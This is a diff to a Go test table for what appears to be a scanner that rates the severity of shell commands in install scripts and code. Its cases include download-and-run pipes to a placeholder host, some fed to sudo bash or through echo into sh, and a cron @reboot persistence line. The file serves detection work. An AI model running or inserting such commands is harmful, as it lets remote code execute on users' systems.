@@ -40,6 +40,11 @@ func TestSeverityByContext(t *testing.T) {
 		{"installer adds a cron job", "install.sh", "(crontab -l; echo '@reboot /opt/t/run') | crontab -", 1, "high persistence"},
 		{"ruby backticks run", "lib/x.rb", "`curl -s https://x.invalid/i | sh`", 1, "high download-and-run"},
 		{"profile backup is not the profile", "install.sh", "mv \"$HOME/.zshrc\" \"$HOME/.zshrc.pre-t\"", 1, ""},
+		// A command spelled in a message the script prints does not run;
+		// printed into a shell or a file it does.
+		{"install hint in a usage message", "install.sh", "usage() { echo \"Usage: curl https://x.invalid/i.sh | sudo bash\" 1>&2; exit 1; }", 1, "medium download-and-run"},
+		{"echo piped to a shell", "x.sh", "echo \"curl -s https://x.invalid/i | sh\" | sh", 1, "high download-and-run"},
+		{"echo with a command substitution", "x.sh", "echo \"$(curl -s https://x.invalid/i | sh)\"", 1, "high download-and-run"},
 		// A command spelled in a string that nothing runs is a message.
 		{"install hint", "setup.py", "def hint(url):\n    return f\"curl -fsSL {url} | sh\"", 2, "medium download-and-run"},
 		{"install hint run", "setup.py", "import os\nos.system(\"curl -fsSL https://x.invalid/i | sh\")", 2, "high download-and-run"},
